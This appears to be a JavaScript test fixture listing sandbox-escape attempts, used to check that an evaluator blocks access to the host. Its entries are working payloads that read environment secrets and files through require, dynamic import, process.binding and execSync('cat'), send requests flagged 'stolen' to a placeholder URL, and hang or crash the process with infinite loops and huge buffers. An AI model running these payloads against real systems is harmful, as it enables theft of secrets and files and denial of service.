import { attacks, loot, type Attack } from '../attack.js';

/** What other hosts leave lying about: globals, loaders, evaluators, timers. */
export const ambient: Attack[] = attacks('ambient', {
  process: "process.env['@SECRET@']",
  'process in a typeof': "typeof process === 'undefined' ? 'none' : process.env['@SECRET@']",
  globalThis: "globalThis.process.env['@SECRET@']",
  'globalThis by a computed name': "globalThis['pro' + 'cess'].env['@SECRET@']",
  'global, self, window, root':
    "for (const get of [() => global, () => self, () => window, () => root]) { try { print(get().process.env['@SECRET@']) } catch (error) {} }",
  'this at the top': "this.process.env['@SECRET@']",
  'this of a sloppy function': "(function () { return this })().process.env['@SECRET@']",
  'this of a callback': "[1].map(function () { return this.process.env['@SECRET@'] })",
  'this through call and apply':
    "const f = function () { return this }; [f.call(null), f.apply(undefined), f.bind()()].map((x) => x.process.env['@SECRET@'])",
  require: "require('node:fs').readFileSync('@FILE@', 'utf8')",
  'module.require': "module.require('fs').readFileSync('@FILE@', 'utf8')",
  'process.mainModule': "process.mainModule.require('child_process').execSync('cat @FILE@').toString()",
  'process.getBuiltinModule': "process.getBuiltinModule('fs').readFileSync('@FILE@', 'utf8')",
  'process.binding': "process.binding('fs').readFileUtf8('@FILE@', 0)",
  'process.dlopen': "const m = { exports: {} }; process.dlopen(m, '@FILE@'); m",
  'a static import': "import { readFileSync } from 'node:fs'; readFileSync('@FILE@', 'utf8')",
  'an import of the environment': "import { env } from 'node:process'; env['@SECRET@']",
  'an import by address':
    "import text from 'data:text/javascript,export default process.env'; text['@SECRET@']",
  'an import with attributes': "import secret from '@FILE@' with { type: 'json' }; secret",
  'an import that is re-exported': "export * from 'node:fs'",
  'a dynamic import': "const fs = await import('node:fs'); fs.readFileSync('@FILE@', 'utf8')",
  'the rejection of a dynamic import': `try { await import('nowhere') } catch (error) { ${loot('error.constructor.constructor')} }`,
  'import.meta': 'import.meta.url + import.meta.dirname + import.meta.resolve("fs")',
  eval: 'eval(\'process.env["@SECRET@"]\')',
  'indirect eval': '(0, eval)(\'process.env["@SECRET@"]\')',
  'eval under another name': 'const run = eval; run(\'process.env["@SECRET@"]\')',
  'the Function global': loot('Function'),
  'new Function': loot('(text) => new Function(text)'),
  'a timer with text': "setTimeout('globalThis.leak = process.env', 0); setInterval(() => { for (;;); }, 0)",
  fetch: "const reply = await fetch('@URL@?stolen=1'); await reply.text()",
  XMLHttpRequest: "const r = new XMLHttpRequest(); r.open('GET', '@URL@', false); r.send(); r.responseText",
  WebSocket: "new WebSocket('@URL@'.replace('http', 'ws'))",
  WebAssembly: 'new WebAssembly.Memory({ initial: 65536 }).buffer.byteLength',
  SharedArrayBuffer:
    'new SharedArrayBuffer(1e9).byteLength + Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0)',
  Buffer: "Buffer.allocUnsafe(1e6).toString('latin1')",
  'Buffer with its pool': "Buffer.from('x').buffer.byteLength",
  'Deno and Bun':
    "[() => Deno.readTextFileSync('@FILE@'), () => Bun.file('@FILE@').text()].map((f) => { try { return f() } catch (e) { return 0 } })",
  Worker: "new Worker('process.exit()', { eval: true })",
  'a clock':
    "[() => Date.now(), () => new Date().getTime(), () => performance.now(), () => Math.random()].map((f) => { try { return f() } catch (e) { return 'none' } })",
  'an entropy source': 'crypto.getRandomValues(new Uint8Array(16)).join()',
  'queueMicrotask and nextTick': 'queueMicrotask(() => { for (;;); }); process.nextTick(() => { for (;;); })',
  'names of the wrapper of a module': '[__dirname, __filename, exports, module].join()',
  'a name that an object inherits':
    "[toString, valueOf, hasOwnProperty, isPrototypeOf].map((f) => f.constructor('return 1')())",
  'a debugger statement': "debugger; process.env['@SECRET@']",
});
